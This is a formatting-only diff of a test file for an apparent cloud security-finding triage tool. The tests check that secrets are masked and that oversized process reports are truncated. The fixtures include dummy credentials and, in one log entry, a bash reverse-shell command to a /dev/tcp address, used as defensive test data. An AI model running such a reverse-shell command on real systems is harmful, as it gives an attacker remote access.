@@ -13,7 +13,10 @@ const withSecrets = () => {
   const sample = loadSample('gke-multi-process-remote-command-exec.json');
   const process = sample.finding.processes[0];
   process.args = ['curl', '-H', 'Authorization: Bearer abcdefghijklmnop', 'https://u:pw@example.invalid', '--password', 'hunter2'];
-  process.envVariables = [{ name: 'DB_PASSWORD', val: 's3cret' }, { name: 'HOME', val: '/root' }];
+  process.envVariables = [
+    { name: 'DB_PASSWORD', val: 's3cret' },
+    { name: 'HOME', val: '/root' },
+  ];
   process.script = { contents: 'export AWS_SECRET_ACCESS_KEY=abc123\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n' };
   return sample;
 };
@@ -26,7 +29,10 @@ describe('secrets in processes', () => {
     if (result.kind === 'skipped') throw new Error('unexpected');
     const [process] = result.summary.processes;
     expect(process!.args).toEqual(['curl', '-H', `Authorization: ${maskMarker}`, `https://u:${maskMarker}@example.invalid`, '--password', maskMarker]);
-    expect(process!.env).toEqual([{ name: 'DB_PASSWORD', value: maskMarker }, { name: 'HOME', value: '/root' }]);
+    expect(process!.env).toEqual([
+      { name: 'DB_PASSWORD', value: maskMarker },
+      { name: 'HOME', value: '/root' },
+    ]);
     expect(process!.script!.excerpt).toBe(`export AWS_SECRET_ACCESS_KEY=${maskMarker}\n-----BEGIN PRIVATE KEY-----${maskMarker}-----END PRIVATE KEY-----\n`);
     expect(JSON.stringify(result.summary)).not.toMatch(/hunter2|s3cret|abcdefghijklmnop|MIIE|:pw@/);
   });
@@ -41,8 +47,22 @@ describe('secrets in processes', () => {
 describe('secrets in log lines', () => {
   it('are masked in excerpts and highlight details', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'scc-triage-secrets-'));
-    const labels = { project_id: 'acme-payments-prod', location: 'europe-west1', cluster_name: 'payments-gke-1', namespace_name: 'payments', pod_name: 'checkout-api-6d8f9c7b5-q2w8x', container_name: 'checkout-api' };
-    const entry = { insertId: 'x', logName: 'projects/acme-payments-prod/logs/stderr', timestamp: '2025-03-04T14:22:30Z', severity: 'ERROR', resource: { type: 'k8s_container', labels }, textPayload: 'bash -i >& /dev/tcp/203.0.113.45/4444 token=hunter2' };
+    const labels = {
+      project_id: 'acme-payments-prod',
+      location: 'europe-west1',
+      cluster_name: 'payments-gke-1',
+      namespace_name: 'payments',
+      pod_name: 'checkout-api-6d8f9c7b5-q2w8x',
+      container_name: 'checkout-api',
+    };
+    const entry = {
+      insertId: 'x',
+      logName: 'projects/acme-payments-prod/logs/stderr',
+      timestamp: '2025-03-04T14:22:30Z',
+      severity: 'ERROR',
+      resource: { type: 'k8s_container', labels },
+      textPayload: 'bash -i >& /dev/tcp/203.0.113.45/4444 token=hunter2',
+    };
     writeFileSync(join(dir, 'entries.ndjson'), `${JSON.stringify(entry)}\n`);
     const result = await triage(loadSample('gke-reverse-shell.json'), { logs: new ExportedLogSource(dir), now: () => new Date() }, defaultConfig);
     if (result.kind === 'skipped') throw new Error('unexpected');
@@ -61,7 +81,10 @@ describe('process reports of hostile size', () => {
     const secret = 'S3cr3t-cut-'.repeat(200);
     const args = ['mysql', 'x'.repeat(twoMb), `--password=${secret}`, `-p${secret}`, ...Array.from({ length: 100 }, () => 'a')];
     const key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXk'.repeat(1000)}\n-----END OPENSSH PRIVATE KEY-----\n`;
-    const env = [{ name: 'N'.repeat(twoMb), val: 'v' }, { name: 'NOTES', val: `${'x '.repeat(120)}ghp_${'a'.repeat(twoMb)}` }];
+    const env = [
+      { name: 'N'.repeat(twoMb), val: 'v' },
+      { name: 'NOTES', val: `${'x '.repeat(120)}ghp_${'a'.repeat(twoMb)}` },
+    ];
     const result = report({ binary: { path: `/${'d/'.repeat(twoMb)}` }, args, script: { path: '/s', contents: `echo hi\n${key}` }, envVariables: env });
     expect(result.args).toHaveLength(processLimits.args);
     expect(result.argsTruncated).toBe(true);
